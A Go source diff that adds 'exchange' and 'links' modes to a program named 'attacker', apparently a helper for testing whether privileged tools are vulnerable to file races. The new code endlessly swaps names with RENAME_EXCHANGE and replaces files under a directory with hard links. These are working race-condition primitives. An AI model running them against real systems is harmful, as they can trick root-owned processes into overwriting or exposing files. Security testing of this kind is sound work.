@@ -6,12 +6,16 @@
 //	attacker folder DIR PART TARGET    each new folder in DIR with PART in its name becomes a link to TARGET
 //	attacker after FILE GLOB TARGET    when somebody opens FILE, the first folder that matches GLOB becomes a link to TARGET
 //	attacker whole DIR PART TARGET     when DIR has a new file with PART in its name, DIR becomes a link to TARGET
+//	attacker exchange A B              A and B exchange their names, again and again
+//	attacker links DIR FILE            each file below DIR becomes a hard link to FILE, then itself again, and so on
 //
 // It prints a line when it is ready, and one for each time that it has done so.
 package main
 
 import (
+	"errors"
 	"fmt"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
@@ -21,6 +25,20 @@ import (
 )
 
 func main() {
+	switch os.Args[1] {
+	case "exchange":
+		fmt.Println("ready")
+		for {
+			if swap(os.Args[2], os.Args[3]) {
+				fmt.Println("done")
+			}
+		}
+	case "links":
+		fmt.Println("ready")
+		for {
+			links(os.Args[2], os.Args[3])
+		}
+	}
 	verb, dir, name, target := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
 	mask := map[string]uint32{"open": unix.IN_OPEN, "after": unix.IN_OPEN, "folder": unix.IN_CREATE, "whole": unix.IN_CREATE}[verb]
 	fd, err := unix.InotifyInit1(0)
@@ -73,7 +91,24 @@ func main() {
 	}
 }
 
-// swap exchanges a folder of root's, in a directory of ours, for a copy of the link.
+// links exchanges each file below dir for a hard link to a file, or that for the file that was there.
+func links(dir, file string) {
+	const mark = ".attacker"
+	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		switch {
+		case err != nil:
+		case d.IsDir():
+			os.Chmod(path, 0o755) // an extracted module is closed to its owner
+		case d.Type().IsRegular() && !strings.HasSuffix(path, mark):
+			if err := os.Link(file, path+mark); (err == nil || errors.Is(err, fs.ErrExist)) && swap(path+mark, path) {
+				fmt.Println("done")
+			}
+		}
+		return nil
+	})
+}
+
+// swap exchanges what two names in directories of ours stand for: a folder of root's and a link, say.
 func swap(folder, link string) bool {
 	return unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, folder, unix.RENAME_EXCHANGE) == nil
 }
